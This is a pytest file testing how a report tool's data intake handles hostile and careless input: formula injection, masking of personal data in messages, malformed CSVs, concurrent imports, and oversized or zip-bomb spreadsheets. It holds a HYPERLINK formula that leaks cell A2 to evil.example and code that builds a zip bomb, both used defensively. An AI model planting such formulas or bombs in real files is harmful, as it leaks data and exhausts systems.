"""Hostile and careless inputs to intake: formulas, personal values in messages, empty files,
unbalanced quotes, oversized spreadsheets, concurrent imports."""
import openpyxl
import pytest

from nianbao.intake import import_file
from nianbao.intake.templates import write_template
from nianbao.project import open_project

from intake_helpers import GRADUATE_HEADER, graduate, write_csv

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
MAJORS_HEADER = ["专业代码", "专业名称", "院系", "首次招生年份", "专业级别"]


def test_template_options_never_hold_live_formulas(project_dir, tmp_path):
    majors = write_csv(tmp_path / "majors.csv", [MAJORS_HEADER, ["460104", HOSTILE, "机械工程系", "2003", ""],
                                                 ["460105", "=1+1", "@SUM(A1)", "2004", ""],
                                                 ["460106", "数控技术", "+机械", "2005", ""]])
    assert import_file(open_project(project_dir), "majors", majors).version is not None
    from nianbao.intake import current_majors
    out = write_template("graduates", tmp_path / "g.xlsx", ["待就业"], current_majors(open_project(project_dir)))
    book = openpyxl.load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert HOSTILE in texts and "=1+1" in texts and "@SUM(A1)" in texts  # kept as text, byte for byte
    quoted = {c.value for c in cells if c.quotePrefix}
    assert {HOSTILE, "=1+1", "@SUM(A1)", "+机械"} <= quoted
    # LibreOffice/Excel keep a quote-prefixed cell as text: reading back with calamine gives the text
    from python_calamine import CalamineWorkbook
    rows = CalamineWorkbook.from_path(str(out)).get_sheet_by_name("选项").to_python()
    assert HOSTILE in {v for row in rows for v in row}


NAMES = ["慕容青云", "欧阳明月", "司马长风", "上官飞燕", "诸葛清泉"]


def cli(*args):
    from typer.testing import CliRunner
    from nianbao.cli import app
    return CliRunner().invoke(app, [str(a) for a in args])


def test_roster_without_name_header_never_prints_names(project_dir, tmp_path):
    header = [h for h in GRADUATE_HEADER if h != "姓名"]  # the rows still carry a name in column 2
    rows = [header] + [graduate(i, name=name) for i, name in enumerate(NAMES)]
    result = cli("data", "import", project_dir, "graduates", write_csv(tmp_path / "g.csv", rows))
    assert result.exit_code == 1
    for i, name in enumerate(NAMES):
        assert name not in result.output and name[1:] not in result.output
        assert f"20259{i:05d}" not in result.output
    assert "第 2 行 “性别”列：性别取值不合法（值：慕***）" in result.output


def test_long_values_of_a_personal_file_are_short_and_masked(project_dir, tmp_path):
    rows = [GRADUATE_HEADER, graduate(1, ethnicity="汉族" + "张三李四" * 50)]
    result = cli("data", "import", project_dir, "graduates", write_csv(tmp_path / "g.csv", rows))
    assert result.exit_code == 1
    assert "张三李四" not in result.output
    assert "民族“汉***”无法识别" in result.output


def test_unbalanced_quote_is_reported_where_it_opens(project_dir, tmp_path):
    lines = [",".join(GRADUATE_HEADER)] + [",".join(graduate(i)) for i in range(1, 60)]
    lines[5] = lines[5].replace("河北省", '"河北省')  # row 6 as Excel shows it
    path = tmp_path / "g.csv"
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    result = cli("data", "import", project_dir, "graduates", path)
    assert result.exit_code == 1
    assert f"{path} 第 6 行：引号没有配对" in result.output
    for i in range(5, 60):
        assert f"20259{i:05d}" not in result.output


def test_empty_import_is_refused_unless_allowed(project_dir, tmp_path):
    before = cli("data", "import", project_dir, "graduates", write_csv(tmp_path / "g.csv",
                                                                     [GRADUATE_HEADER, graduate(1)]))
    assert before.exit_code == 0
    empty = write_csv(tmp_path / "empty.csv", [GRADUATE_HEADER])
    result = cli("data", "import", project_dir, "graduates", empty)
    assert result.exit_code == 1
    assert f"{empty}：文件没有数据行（只有表头）" in result.output
    assert "--allow-empty" in result.output
    from nianbao.intake import store
    assert store.current_name(project_dir, "graduates") == "v0001"
    blank = cli("data", "template", "graduates", "-o", tmp_path / "blank.xlsx")
    assert blank.exit_code == 0
    assert cli("data", "import", project_dir, "graduates", tmp_path / "blank.xlsx").exit_code == 1
    assert store.current_name(project_dir, "graduates") == "v0001"
    allowed = cli("data", "import", project_dir, "graduates", empty, "--allow-empty")
    assert allowed.exit_code == 0 and store.current_name(project_dir, "graduates") == "v0002"


def test_chart_without_data_is_a_clear_message(project_dir, tmp_path):
    write_csv(project_dir / "data" / "graduates.csv", [GRADUATE_HEADER])
    result = cli("build", project_dir, "-o", tmp_path / "out", "-f", "html")
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "没有数据，无法作图" in result.output


def _import_process(project_dir, path, env_extra=None):
    import os
    import subprocess
    import sys
    env = dict(os.environ, **(env_extra or {}))
    return subprocess.Popen([sys.executable, "-m", "nianbao.cli", "data", "import", str(project_dir), "graduates",
                             str(path)], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def test_second_import_waits_for_the_first(project_dir, tmp_path):
    """A is paused between writing its version and making it current; B must wait, then win."""
    import time
    from nianbao.intake import store
    first = write_csv(tmp_path / "a.csv", [GRADUATE_HEADER] + [graduate(i) for i in range(3)])
    second = write_csv(tmp_path / "b.csv", [GRADUATE_HEADER] + [graduate(i) for i in range(5)])
    marker, release = tmp_path / "marker", tmp_path / "release"
    a = _import_process(project_dir, first, {store.HOOK_ENV: f"versioned:{marker}:120:{release}"})
    deadline = time.monotonic() + 60
    while not marker.exists():
        assert a.poll() is None and time.monotonic() < deadline, a.communicate()
        time.sleep(0.05)
    b = _import_process(project_dir, second)
    said = ""
    while "等待它完成" not in said.replace("\n", ""):  # B says it waits, however slowly it started
        line = b.stderr.readline()
        assert line, f"B finished without waiting: {said!r}"
        said += line
    release.touch()
    b_out, b_err = b.communicate(timeout=120)
    b_err = said + b_err
    a_out, a_err = a.communicate(timeout=120)
    assert (a.returncode, b.returncode) == (0, 0), (a_err, b_err)
    assert "等待它完成" in b_err
    assert "已导入为 graduates 的 v0001" in a_out and "已导入为 graduates 的 v0002" in b_out
    assert store.current_name(project_dir, "graduates") == "v0002"
    assert store.current(project_dir, "graduates").manifest["rows"] == 5


def test_eight_imports_at_once_leave_the_newest_current(project_dir, tmp_path):
    import re
    from nianbao.intake import store
    files = [write_csv(tmp_path / f"g{n}.csv", [GRADUATE_HEADER] + [graduate(i) for i in range(n)])
             for n in range(1, 9)]
    procs = [_import_process(project_dir, path) for path in files]
    results = [p.communicate(timeout=300) + (p.returncode,) for p in procs]
    assert all(code == 0 for _, _, code in results), [err for _, err, _ in results]
    claimed = sorted(re.search(r"的 (v\d{4})", out)[1] for out, _, _ in results)
    assert claimed == [f"v{n:04d}" for n in range(1, 9)]
    current = store.current(project_dir, "graduates")
    assert current.name == "v0008"
    rows = {int(re.search(r"（(\d+) 行", out)[1]) for out, _, _ in results if "v0008" in out}
    assert rows == {current.manifest["rows"]}


def _cli_process(*args, env_extra=None, timeout=120):
    """The CLI in its own process: a reader that aborts must not take pytest with it."""
    import os
    import resource
    import subprocess
    import sys

    def limit_memory():  # an allocation beyond 3 GB fails at once instead of swapping the machine
        resource.setrlimit(resource.RLIMIT_AS, (3 * 1024**3, 3 * 1024**3))
    env = dict(os.environ, **(env_extra or {}))
    return subprocess.run([sys.executable, "-m", "nianbao.cli", *map(str, args)], env=env, capture_output=True,
                          text=True, timeout=timeout, preexec_fn=limit_memory)


def test_xlsx_with_a_far_cell_is_refused_before_reading(project_dir, tmp_path):
    import time
    book = openpyxl.Workbook()
    for column, header in enumerate(GRADUATE_HEADER, start=1):
        book.active.cell(row=1, column=column, value=header)
    book.active["XFD1048576"] = "x"
    book.save(tmp_path / "far.xlsx")
    assert (tmp_path / "far.xlsx").stat().st_size < 10_000
    start = time.monotonic()
    result = _cli_process("data", "import", project_dir, "graduates", tmp_path / "far.xlsx")
    assert time.monotonic() - start < 30
    assert result.returncode == 1, result.stderr[-500:]
    assert "Traceback" not in result.stderr and "panicked" not in result.stderr
    assert "工作表的数据区域过大（1048576 行 × 16384 列" in result.stdout


def test_zip_bomb_renamed_xlsx_is_refused_quickly(project_dir, tmp_path):
    import time
    import zipfile
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(b'<worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>')
            block = b" " * (1 << 20)
            for _ in range(300):
                fh.write(block)
            fh.write(b"</worksheet>")
    assert bomb.stat().st_size < 1_000_000
    start = time.monotonic()
    result = _cli_process("data", "import", project_dir, "graduates", bomb,
                          env_extra={"NIANBAO_MAX_SPREADSHEET_UNPACKED_BYTES": "200000000"})
    assert time.monotonic() - start < 30
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert f"{bomb}：Excel 文件解压后过大（超过 191 MB），可能已损坏或是压缩炸弹" in result.stdout


def test_limits_are_configurable_and_checked():
    import os
    from nianbao.errors import NianbaoError
    from nianbao.limits import current_limits
    assert current_limits().max_spreadsheet_cells >= 8 * 1_048_576  # a 1 M-row roster fits
    os.environ["NIANBAO_MAX_SPREADSHEET_CELLS"] = "1_000"
    try:
        assert current_limits().max_spreadsheet_cells == 1000
        os.environ["NIANBAO_MAX_SPREADSHEET_CELLS"] = "很多"
        with pytest.raises(NianbaoError, match="NIANBAO_MAX_SPREADSHEET_CELLS 应为正整数"):
            current_limits()
    finally:
        del os.environ["NIANBAO_MAX_SPREADSHEET_CELLS"]


FIGURES_HEADER = ["指标代码", "指标名称", "分组", "年份", "单位", "数值", "数据来源"]


def test_figures_counts_are_whole_and_not_scientific(project_dir, tmp_path):
    rows = [FIGURES_HEADER, ["staff_total", "教职工总数", "", "2025", "人", "6.5e2", "人事处"],
            ["trainees", "培训人次", "", "2025", "人次", "-650", "继续教育学院"],
            ["half", "专任教师", "", "2024", "人", "12.5", "人事处"],
            ["income", "培训收入", "", "2025", "万元", "-3.5", "财务处"],
            ["hours", "课时", "", "2025", "课时", "1166.0", "教务处"]]
    result = cli("data", "import", project_dir, "figures", write_csv(tmp_path / "f.csv", rows), "--format", "json")
    import json
    problems = [(p["row"], p["message"], p["expected"]) for p in json.loads(result.stdout)]
    assert problems == [(2, "数值用了科学计数法", "普通写法的数字，如 650"),
                        (3, "单位为“人次”，人数、人次等计数应为非负整数", "非负整数，如 650"),
                        (4, "单位为“人”，人数、人次等计数应为非负整数", "非负整数，如 650")]


def test_xlsx_bounds_need_no_cell_by_cell_walk_when_a_chunk_ends_inside_a_cell_tag(tmp_path, monkeypatch):
    """Chunks ending in `<c ` (its r="…" in the next chunk) once sent every large sheet down the slow walk."""
    from nianbao.intake import readers
    from nianbao.limits import current_limits
    book = openpyxl.Workbook()
    for r in range(1, 400):
        book.active.append([f"2022{r:06d}", "男", "汉族"])
    book.save(tmp_path / "g.xlsx")
    sheet = __import__("zipfile").ZipFile(tmp_path / "g.xlsx").read("xl/worksheets/sheet1.xml")
    cut = sheet.index(b'<c r="A200"') + 3  # the first chunk ends right after `<c `
    monkeypatch.setattr(readers, "_CHUNK", cut)
    monkeypatch.setattr(readers, "_walk_sheet", lambda *a: pytest.fail("walked cell by cell"))
    readers.check_xlsx_bounds(tmp_path / "g.xlsx", "g.xlsx", current_limits())
    monkeypatch.setattr(readers, "_CHUNK", 1 << 22)
    # the range is 399 rows x (at most) 26 columns
    limits = __import__("dataclasses").replace(current_limits(), max_spreadsheet_cells=399 * 26 - 1)
    with pytest.raises(readers.IntakeError, match="399 行 × 26 列"):
        readers.check_xlsx_bounds(tmp_path / "g.xlsx", "g.xlsx", limits)
